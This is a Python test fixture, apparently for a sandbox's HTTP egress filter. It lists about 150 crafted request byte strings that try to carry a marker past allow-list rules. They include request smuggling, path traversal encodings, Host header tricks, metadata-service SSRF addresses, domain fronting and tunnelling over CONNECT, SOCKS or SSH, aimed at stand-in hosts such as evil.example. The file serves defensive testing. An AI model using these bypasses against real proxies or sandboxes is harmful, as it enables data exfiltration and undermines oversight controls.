# SPDX-License-Identifier: Apache-2.0
"""Ways around rules that look into HTTP: bytes that a program in the sandbox sends. Each holds MARK where only what is denied would carry it.

The rules allow GET of http(s)://api.example/ok/** and POST of /json there when the body says {"kind": "good"}; nothing else.
"""

import gzip

MARK = b"m4rk-that-must-not-leave"
SNI = "api.example"


def get(path, host=b"api.example", method=b"GET", headers=b"", body=b""):
    if body:
        headers += b"Content-Length: %d\r\n" % len(body)
    return method + b" " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + headers + b"\r\n" + body


OK = get(b"/ok/x")
DENIED = get(b"/denied/" + MARK)


def post_json(body, headers=b""):
    return get(b"/json", method=b"POST", headers=b"Content-Type: application/json\r\n" + headers, body=body)


def chunked(body, coding=b"Transfer-Encoding: chunked\r\n"):
    return b"POST /json HTTP/1.1\r\nHost: api.example\r\nContent-Type: application/json\r\n" + coding + b"\r\n" + body


GOOD = b'{"kind": "good"}'
GOOD_CHUNKS = b"10\r\n" + GOOD + b"\r\n0\r\n\r\n"

# name: bytes on a plain connection to port 80
PLAIN = {
    "a host that no rule knows": get(b"/ok/" + MARK, b"evil.example"),
    "a method that no rule allows": get(b"/ok/x", method=b"PUT", body=MARK),
    "a path that no rule allows": DENIED,
    "dot segments": get(b"/ok/../denied/" + MARK),
    "escaped dot segments": get(b"/ok/%2e%2E/denied/" + MARK),
    "an escaped slash behind dots": get(b"/ok/..%2fdenied/" + MARK),
    "an escaped backslash behind dots": get(b"/ok/..%5cdenied/" + MARK),
    "a backslash": get(b"/ok/..\\denied\\" + MARK),
    "parameters behind dots": get(b"/ok/..;/denied/" + MARK),
    "dots escaped twice": get(b"/ok/%252e%252e/denied/" + MARK),
    "NUL in the path": get(b"/ok/%00/../../" + MARK),
    "overlong UTF-8 dots": get(b"/ok/\xc0\xae\xc0\xae/denied/" + MARK),
    "line break in the path": get(b"/ok/%0d%0aX:" + MARK),
    "CONNECT to a denied host": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX: " + MARK + b"\r\n\r\n",
    "CONNECT to an allowed host": b"CONNECT api.example:80 HTTP/1.1\r\nHost: api.example:80\r\n\r\n" + DENIED,
    "CONNECT to another port": b"CONNECT api.example:22 HTTP/1.1\r\nHost: api.example:22\r\n\r\nSSH-2.0-" + MARK + b"\r\n",
    "absolute form for a denied host": get(b"http://evil.example/ok/" + MARK, b"evil.example"),
    "absolute form against Host": get(b"http://evil.example/ok/" + MARK),
    "absolute form of another scheme": get(b"ftp://api.example/ok/" + MARK),
    "absolute form with user information": get(b"http://api.example@evil.example/ok/" + MARK),
    "user information in Host": get(b"/ok/" + MARK, b"api.example@evil.example"),
    "two Hosts": get(b"/ok/" + MARK, headers=b"Host: evil.example\r\n"),
    "Host folded": b"GET /ok/" + MARK + b" HTTP/1.1\r\nHost:\r\n api.example\r\n\r\n",
    "Host with a space before the colon": b"GET /ok/" + MARK + b" HTTP/1.1\r\nHost : api.example\r\n\r\n",
    "Host with NUL": get(b"/ok/" + MARK, b"evil.example\0.api.example"),
    "Host with a tab": get(b"/ok/" + MARK, b"api.example\tevil.example"),
    "Host of another port": get(b"/ok/" + MARK, b"api.example:8080"),
    "Host in full-width letters": get(b"/ok/" + MARK, "ａpi.example".encode()),
    "Host that only ends so": get(b"/ok/" + MARK, b"evil-api.example"),
    "Host that only begins so": get(b"/ok/" + MARK, b"api.example.evil.example"),
    "metadata by address": get(b"/latest/" + MARK, b"169.254.169.254"),
    "metadata in decimal": get(b"/latest/" + MARK, b"2852039166"),
    "metadata in octal": get(b"/latest/" + MARK, b"0251.0376.0251.0376"),
    "metadata in hexadecimal": get(b"/latest/" + MARK, b"0xa9fea9fe"),
    "metadata as mapped IPv6": get(b"/latest/" + MARK, b"[::ffff:169.254.169.254]"),
    "metadata by name": get(b"/computeMetadata/" + MARK, b"metadata.google.internal"),
    "DNS over HTTPS": get(b"/dns-query", b"dns.example", b"POST", b"Content-Type: application/dns-message\r\n", MARK),
    "a second request in the pipeline": OK + DENIED,
    "a request behind a body's length": post_json(GOOD) + DENIED,
    "CL.TE": chunked(b"0\r\n\r\n" + DENIED, b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(DENIED))),
    "TE.CL": chunked(b"%x\r\n" % len(DENIED) + DENIED + b"\r\n0\r\n\r\n", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"),
    "TE twice": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
    "TE unknown": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: xchunked\r\n"),
    "TE quoted": chunked(GOOD_CHUNKS + DENIED, b'Transfer-Encoding: "chunked"\r\n'),
    "TE behind a comma": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: ,chunked\r\n"),
    "TE with a vertical tab": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: \x0bchunked\r\n"),
    "TE behind a bare CR": chunked(GOOD_CHUNKS + DENIED, b"X: y\rTransfer-Encoding: chunked\r\n"),
    "TE behind a bare LF": chunked(GOOD_CHUNKS + DENIED, b"X: y\nTransfer-Encoding: chunked\r\n"),
    "TE with a space before the colon": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding : chunked\r\n"),
    "TE in HTTP/1.0": chunked(GOOD_CHUNKS + DENIED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "lengths that differ": get(b"/ok/x", headers=b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(DENIED)) + DENIED,
    "a list of lengths": get(b"/ok/x", headers=b"Content-Length: 0, %d\r\n" % len(DENIED)) + DENIED,
    "a negative length": get(b"/ok/x", headers=b"Content-Length: -1\r\n") + DENIED,
    "a chunk size that wraps": chunked(b"10000000000000010\r\n" + GOOD + b"\r\n0\r\n\r\n" + DENIED),
    "a chunk ended by LF": chunked(b"10\n" + GOOD + b"\n0\n\n" + DENIED),
    "a chunk that is longer than it says": chunked(b"1\r\n" + GOOD + MARK + b"\r\n0\r\n\r\n"),
    "extensions of chunks": chunked(b"10;" + MARK + b"\r\n" + GOOD + b"\r\n0\r\n\r\n"),
    "framing in trailers": chunked(b"10\r\n" + GOOD + b"\r\n0\r\nContent-Length: 99\r\nHost: " + MARK + b"\r\n\r\n"),
    "hop-by-hop fields": get(b"/ok/x", headers=b"Connection: X-Secret\r\nX-Secret: " + MARK + b"\r\nProxy-Authorization: " + MARK + b"\r\n"),
    "upgrade to HTTP/2": get(b"/ok/x", headers=b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: " + MARK + b"\r\n"),
    "upgrade to a denied WebSocket": get(b"/ws/" + MARK, headers=b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                                         b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"),
    "HTTP/0.9": b"GET /ok/" + MARK + b"\r\n\r\n",
    "HTTP/2 by prior knowledge": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + MARK,
    "SOCKS5": b"\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50" + MARK,
    "SSH": b"SSH-2.0-" + MARK + b"\r\n",
    "a raw stream": MARK * 100,
    "a body that says something else": post_json(b'{"kind": "' + MARK + b'"}'),
    "a member twice": post_json(b'{"kind": "good", "kind": "' + MARK + b'"}'),
    "a member twice, escaped": post_json(b'{"kind": "good", "\\u006bind": "' + MARK + b'"}'),
    "something behind the document": post_json(GOOD + MARK),
    "another coding than said": post_json(gzip.compress(GOOD + MARK, 0)),
    "an unknown coding": post_json(GOOD + MARK, b"Content-Encoding: x-odd\r\n"),
    "a coding that hides it": post_json(gzip.compress(b'{"kind": "bad", "x": "' + MARK + b'"}', 0), b"Content-Encoding: gzip\r\n"),
    "a body too large to look into": post_json(b'{"kind": "good", "x": "' + MARK + b" " * (33 << 20) + b'"}'),
    "another kind behind three mebibytes": post_json(b'{"kind": "good", "x": "' + b" " * (3 << 20) + b'", "kind": "' + MARK + b'"}'),
    "the kind in capitals behind three mebibytes": post_json(b'{"kind": "good", "x": "' + b" " * (3 << 20) + b'", "Kind": "' + MARK + b'"}'),
    "a body too large when decoded": post_json(gzip.compress(b'{"kind": "good", "x": "' + b" " * (64 << 20) + b'"}') + MARK, b"Content-Encoding: gzip\r\n"),
    "UTF-16": post_json(('{"kind": "good", "x": "' + MARK.decode() + '"}').encode("utf-16") + MARK),
    "a head too large": get(b"/ok/x", headers=b"X: " + b"x" * 40000 + MARK + b"\r\n"),
    "too many fields": get(b"/ok/x", headers=b"X: y\r\n" * 300 + b"X: " + MARK + b"\r\n"),
    "a version that does not exist": get(b"/ok/" + MARK).replace(b"HTTP/1.1", b"HTTP/1.9"),
    "two spaces": b"GET  /ok/" + MARK + b" HTTP/1.1\r\nHost: api.example\r\n\r\n",
    "a tab between": b"GET\t/ok/" + MARK + b"\tHTTP/1.1\r\nHost: api.example\r\n\r\n",
    "TE of two codings": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: chunked, identity\r\n"),
    "TE of two codings, the last one counts": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: identity, chunked\r\n"),
    "TE of the same coding twice": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: chunked, chunked\r\n"),
    "TE with NUL": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding: chunked\0\r\n"),
    "TE with NUL in its name": chunked(GOOD_CHUNKS + DENIED, b"Transfer-Encoding\0: chunked\r\n"),
    "TE in letters of another alphabet": chunked(GOOD_CHUNKS + DENIED, "Transfer-Encoding: chun\u212aed\r\n".encode()),
    "TE that is empty, with a length": chunked(b"0\r\n\r\n" + DENIED, b"Transfer-Encoding:\r\nContent-Length: %d\r\n" % (5+len(DENIED))),
    "a length with an underscore": get(b"/ok/x", headers=b"Content-Length: 0_0\r\n") + DENIED,
    "a length that is empty": get(b"/ok/x", headers=b"Content-Length:\r\n") + DENIED,
    "a length that wraps": get(b"/ok/x", headers=b"Content-Length: 18446744073709551616\r\n") + DENIED,
    "a length in wide digits": get(b"/ok/x", headers="Content-Length: \uff10\r\n".encode()) + DENIED,
    "a line that is folded": get(b"/ok/x", headers=b"X: y\r\n Transfer-Encoding: " + MARK + b"\r\n"),
    "a first line that is folded": b"GET /ok/x HTTP/1.1\r\n Host: " + MARK + b"\r\nHost: api.example\r\n\r\n",
    "an empty name of a field": get(b"/ok/x", headers=b": " + MARK + b"\r\n"),
    "a name of a field with a space": get(b"/ok/x", headers=b"X Y: " + MARK + b"\r\n"),
    "a field without a colon": get(b"/ok/x", headers=b"X" + MARK + b"\r\n"),
    "a value with NUL": get(b"/ok/x", headers=b"X: a\0" + MARK + b"\r\n"),
    "no Host": b"GET /ok/" + MARK + b" HTTP/1.1\r\n\r\n",
    "an empty Host": get(b"/ok/" + MARK, b""),
    "Host of an IPv6 zone": get(b"/ok/" + MARK, b"[fe80::1%25eth0]"),
    "Host of an IPv6 zone, unescaped": get(b"/ok/" + MARK, b"[fe80::1%eth0]"),
    "Host of a future address": get(b"/ok/" + MARK, b"[v1.api.example]"),
    "Host with two dots at its end": get(b"/ok/" + MARK, b"api.example.."),
    "Host that begins with a dot": get(b"/ok/" + MARK, b".api.example"),
    "Host with an escape": get(b"/ok/" + MARK, b"api%2eexample"),
    "Host with an escaped slash": get(b"/ok/" + MARK, b"evil.example%2f.api.example"),
    "Host with a path": get(b"/ok/" + MARK, b"evil.example/.api.example"),
    "Host with a question": get(b"/ok/" + MARK, b"evil.example?.api.example"),
    "Host with a backslash": get(b"/ok/" + MARK, b"evil.example\\.api.example"),
    "Host with a list": get(b"/ok/" + MARK, b"api.example, evil.example"),
    "Host in letters that look alike": get(b"/ok/" + MARK, b"xn--pi-7kc.example"),
    "Host with a soft hyphen": get(b"/ok/" + MARK, "api\u00ad.example".encode()),
    "Host with an ideographic full stop": get(b"/ok/" + MARK, "api\u3002example".encode()),
    "Host with port 0": get(b"/ok/" + MARK, b"api.example:0"),
    "Host with an empty port": get(b"/denied/" + MARK, b"api.example:"),
    "Host with a port that wraps": get(b"/ok/" + MARK, b"api.example:65616"),
    "Host with a port and more": get(b"/ok/" + MARK, b"api.example:80@evil.example"),
    "Host with two ports": get(b"/ok/" + MARK, b"api.example:80:8080"),
    "absolute form with a name to log in": get(b"http://" + MARK + b"@api.example/ok/x"),
    "absolute form without a host": get(b"http:///ok/" + MARK),
    "absolute form with capitals in its scheme": get(b"HTTP://evil.example/ok/" + MARK, b"evil.example"),
    "absolute form of one slash": get(b"http:/evil.example/ok/" + MARK),
    "a target of two slashes": get(b"//evil.example/ok/" + MARK),
    "a fragment": get(b"/ok/x#/../denied/" + MARK),
    "an expectation that nobody knows": get(b"/ok/x", headers=b"Expect: 200-maybe\r\nX: " + MARK + b"\r\n"),
    "HTTP/1.10": get(b"/ok/" + MARK).replace(b"HTTP/1.1", b"HTTP/1.10"),
    "http/1.1 in small letters": get(b"/ok/" + MARK).replace(b"HTTP/1.1", b"http/1.1"),
    "a method with a colon": get(b"/ok/x", method=b"GET:" + MARK),
    "a chunk's size with a sign": chunked(b"+10\r\n" + GOOD + b"\r\n0\r\n\r\n" + DENIED),
    "a chunk's size in 0x": chunked(b"0x10\r\n" + GOOD + b"\r\n0\r\n\r\n" + DENIED),
    "a chunk's size that is empty": chunked(b"\r\n" + GOOD + b"\r\n0\r\n\r\n" + DENIED),
    "a chunk's size with an underscore": chunked(b"1_0\r\n" + GOOD + b"\r\n0\r\n\r\n" + DENIED),
    "an extension without end": chunked(b"10;" + b"a" * 70000 + MARK + b"\r\n" + GOOD + b"\r\n0\r\n\r\n"),
    "a request in a trailer": chunked(b"10\r\n" + GOOD + b"\r\n0\r\nX: y\r\n\r\n" + DENIED),
    "a trailer that is folded": chunked(b"10\r\n" + GOOD + b"\r\n0\r\nX: y\r\n " + MARK + b"\r\n\r\n"),
    "a trailer with a bare LF": chunked(b"10\r\n" + GOOD + b"\r\n0\r\nX: y\nZ: " + MARK + b"\r\n\r\n"),
    "an empty line first": b"\r\n\r\nGET /denied/" + MARK + b" HTTP/1.1\r\nHost: api.example\r\n\r\n",
}

# name: (server name, bytes inside TLS) to port 443
TLS = {
    "fronting: an allowed server name, a denied Host": (SNI, get(b"/ok/" + MARK, b"evil.example")),
    "a denied server name, an allowed Host": ("evil.example", get(b"/ok/" + MARK)),
    "the scheme of the other port": (SNI, get(b"http://api.example/ok/" + MARK)),
    "a denied path inside TLS": (SNI, DENIED),
    "CONNECT inside TLS": (SNI, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n\x16\x03\x01" + MARK),
    "TLS inside TLS": (SNI, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + MARK),
    "SSH inside TLS": (SNI, b"SSH-2.0-" + MARK + b"\r\n"),
    "STARTTLS-like speech inside TLS": (SNI, b"EHLO " + MARK + b"\r\nMAIL FROM:<>\r\n"),
    "a second request of another host": (SNI, OK + get(b"/ok/" + MARK, b"evil.example")),
    "metadata inside an allowed name's TLS": (SNI, get(b"/latest/" + MARK, b"169.254.169.254")),
    "smuggling inside TLS": (SNI, PLAIN["CL.TE"]),
    "WebSocket inside TLS": (SNI, PLAIN["upgrade to a denied WebSocket"]),
}
